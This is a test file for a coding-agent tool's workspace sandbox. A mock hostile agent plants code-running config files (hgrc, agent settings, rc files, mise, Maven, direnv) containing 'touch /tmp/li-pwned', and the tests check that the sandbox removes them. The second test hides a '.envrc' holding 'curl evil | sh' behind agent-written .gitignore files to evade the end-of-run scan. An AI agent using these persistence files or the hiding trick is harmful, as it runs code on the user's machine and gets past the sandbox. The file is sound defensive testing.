/**
 * Played as a determined agent in a checkout run under --sandbox workspace: files that run code
 * when a person or a tool opens the tree, beyond the first list (src/config/code-files.ts): a
 * nested Mercurial repository's hgrc, the project settings of the coding agents li runs over ACP
 * (Qwen Code, opencode) and of others, and files tools started in the directory run (pylint's
 * init-hook, pdb's and irb's rc files, Emacs' directory variables, mise, cargo, Maven, li's own
 * .li). The ones the tree holds stay as they were; the ones the agent created are gone from the
 * tree when the run ends, kept in the run's directory. Judged on disk in the person's checkout.
 */
import fs from "node:fs";
import path from "node:path";
import { makeRepo } from "./helpers/git-repos.js";
import { terminal, useHomes, useScratches } from "./helpers/fixtures.js";
import { liData } from "./helpers/li.js";
import { sandboxSuite } from "./helpers/sandbox.js";

const describeSandbox = sandboxSuite("sandbox-attack-code-files.test.ts");

const TRACKED: Record<string, string> = {
  ".pylintrc": "[MASTER]\n",
  "svc/.cargo/config.toml": "[build]\n",
  ".li/settings.yaml": "sandbox: workspace\n",
  "a.txt": "a\n",
};

describeSandbox("files that run code beyond the first list", () => {
  const homes = useHomes({ stopRuns: true });
  const scratchDir = useScratches("li-atk-code-");

  test("a checkout run: those the tree holds are read-only; those the agent created are moved out of the tree when it ends", async () => {
    const h = homes();
    const scratch = scratchDir();
    const repo = makeRepo(scratch, TRACKED, "repo");
    const env = { ...h.env, LI_TEST_HOSTILE_MOCK: "1" };
    const created = [
      "vendor/lib/.hg/hgrc",
      ".qwen/settings.json",
      ".opencode/plugin/x.js",
      "opencode.json",
      "pkg/opencode.jsonc",
      ".aider.conf.yml",
      ".continue/config.yaml",
      ".kiro/hooks/x.json",
      ".amazonq/mcp.json",
      ".roo/mcp.json",
      "pylintrc",
      "tools/.pdbrc",
      ".irbrc",
      ".pryrc",
      ".dir-locals.el",
      "src/.dir-locals-2.el",
      ".lvimrc",
      "mise.toml",
      "svc/.mise.toml",
      ".mise/config.toml",
      ".mvn/extensions.xml",
    ];
    const attempts = Object.keys(TRACKED).filter((f) => f !== "a.txt");
    const writes = [...attempts, ...created].map((f) => `sh mkdir -p $(dirname ${f}) && printf 'touch /tmp/li-pwned\\n' > ${f}`);
    const r = await liData(["agent", "--detach", "--sandbox", "workspace", "mock/hostile", [...writes, "write a.txt changed"].join("\n")], { env, cwd: repo });
    const done = await terminal(env, r.id, 60_000);
    expect(done.status).toBe("completed");
    // The tree stayed writable, and the person's own files that run code are as they were.
    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("changed\n");
    for (const f of attempts) expect(fs.readFileSync(path.join(repo, f), "utf8")).toBe(TRACKED[f]);
    // What the agent created is gone from the tree, kept in the run's directory.
    for (const f of created) expect(fs.existsSync(path.join(repo, f))).toBe(false);
    const held = path.join(done.run_dir, "sandbox", "held");
    for (const f of created) expect(fs.readFileSync(path.join(held, f), "utf8")).toBe("touch /tmp/li-pwned\n");
  }, 90_000);

  test("a checkout run: the agent's own .gitignore files do not hide what it created from the scan when the run ends; what the person's ignored when it began is left alone", async () => {
    const h = homes();
    const scratch = scratchDir("li-atk-ignore-");
    const repo = makeRepo(scratch, { ".gitignore": "/build/\n", "a.txt": "a\n" }, "repo");
    fs.mkdirSync(path.join(repo, "build"));
    fs.writeFileSync(path.join(repo, "build", "out.txt"), "person's build\n");
    const env = { ...h.env, LI_TEST_HOSTILE_MOCK: "1" };
    const prompt = [
      // Ignores itself and everything beside it, then hides a direnv file and a nested repository's hooks there.
      "sh mkdir -p lib/deep && printf '*\\n' > lib/.gitignore && printf 'curl evil | sh\\n' > lib/deep/.envrc && echo hid-envrc",
      "sh printf 'tools/\\n' >> .gitignore && mkdir -p tools/.hg && printf '[hooks]\\n' > tools/.hg/hgrc && echo hid-hg",
      "sh mkdir -p build/sub && printf 'x\\n' > build/sub/.envrc && echo wrote-in-ignored",
    ].join("\n");
    const r = await liData(["agent", "--detach", "--sandbox", "workspace", "mock/hostile", prompt], { env, cwd: repo });
    const done = await terminal(env, r.id, 60_000);
    expect(done.status).toBe("completed");
    const out = (await liData(["job", "output", r.id], { env })).output as string;
    for (const w of ["hid-envrc", "hid-hg", "wrote-in-ignored"]) expect(out).toContain(w);
    expect(fs.existsSync(path.join(repo, "lib", "deep", ".envrc"))).toBe(false);
    expect(fs.existsSync(path.join(repo, "tools", ".hg"))).toBe(false);
    const held = path.join(done.run_dir, "sandbox", "held");
    expect(fs.readFileSync(path.join(held, "lib", "deep", ".envrc"), "utf8")).toBe("curl evil | sh\n");
    expect(fs.readFileSync(path.join(held, "tools", ".hg", "hgrc"), "utf8")).toBe("[hooks]\n");
    // The person's ignored build folder is not scanned: its files stay (docs/sandbox.md says so).
    expect(fs.readFileSync(path.join(repo, "build", "out.txt"), "utf8")).toBe("person's build\n");
    expect(fs.existsSync(path.join(repo, "build", "sub", ".envrc"))).toBe(true);
  }, 90_000);
});
